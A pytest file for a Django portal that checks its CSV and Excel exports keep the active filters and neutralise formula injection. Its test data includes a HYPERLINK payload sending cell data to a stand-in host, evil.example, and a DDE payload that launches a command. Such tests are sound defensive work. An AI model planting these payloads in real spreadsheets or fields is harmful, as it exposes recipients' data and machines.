"""Exports as CSV and Excel: the active filters apply, and no cell runs as a formula in the
organisme's spreadsheet (a titulaire named « =HYPERLINK(…) »)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cpf_portal.http import neutralised
from dossiers.workflow import Status

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content), delimiter=";"))


def xlsx_rows(response) -> tuple[list[list], list[list[str]]]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], [[cell.data_type for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("-12,50", "-12,50"),  # a negative amount stays a number
        ("Camille", "Camille"),
        (12, 12),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value, shown):
    assert neutralised(value) == shown


@pytest.fixture
def hostile_dossier(make_dossier, titulaire_with_rights):
    titulaire_with_rights.first_name = HOSTILE
    titulaire_with_rights.save(update_fields=["first_name"])
    return make_dossier(Status.SENT)


def test_the_dossiers_export_as_csv_and_excel_keeps_the_filter_and_runs_nothing(client, organisme_user, hostile_dossier, make_dossier):
    client.force_login(organisme_user)
    rows = csv_rows(client.get(reverse("dossiers:organisme-export"), {"status": "a_traiter"}))
    assert rows[0][0] == "numero" and len(rows) == 2
    assert rows[1][0] == hostile_dossier.numero and rows[1][2].startswith("'=HYPERLINK(")

    response = client.get(reverse("dossiers:organisme-export-xlsx"), {"status": "a_traiter"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats") and 'filename="dossiers-' in response["Content-Disposition"]
    values, types = xlsx_rows(response)
    assert len(values) == 2 and values[1][0] == hostile_dossier.numero
    assert values[1][2].startswith("=HYPERLINK(") and types[1][2] == "s"  # text, never a formula
    assert all(kind != "f" for row in types for kind in row)


def test_the_sessions_export_follows_the_catalogue_filters(client, organisme_user, session, organisme):
    from dossiers.tests.factories import session_for

    other = session_for(organisme, price_cents=120_000)
    other.formation.intitule = "@Excel formation"
    other.formation.save(update_fields=["intitule"])
    client.force_login(organisme_user)
    everything = csv_rows(client.get(reverse("catalogue:organisme-sessions-export")))
    assert {row[3] for row in everything[1:]} == {str(session.public_id), str(other.public_id)}
    filtered = csv_rows(client.get(reverse("catalogue:organisme-sessions-export"), {"q": "Excel"}))
    assert len(filtered) == 2 and filtered[1][1] == "'@Excel formation" and filtered[1][9] == "1200,00"
    values, types = xlsx_rows(client.get(reverse("catalogue:organisme-sessions-export-xlsx"), {"q": "Excel"}))
    assert values[1][1] == "@Excel formation" and types[1][1] == "s"
    page = client.get(reverse("catalogue:organisme-formations"), {"q": "Excel"}).content.decode()
    assert "@Excel formation" in page and "sessions.xlsx?q=Excel" in page


def test_the_invoices_export_exists_in_excel_too(client, organisme_user):
    client.force_login(organisme_user)
    values, _types = xlsx_rows(client.get(reverse("billing:invoices-export-xlsx")))
    assert values[0][0] == "numero" and len(values) == 1
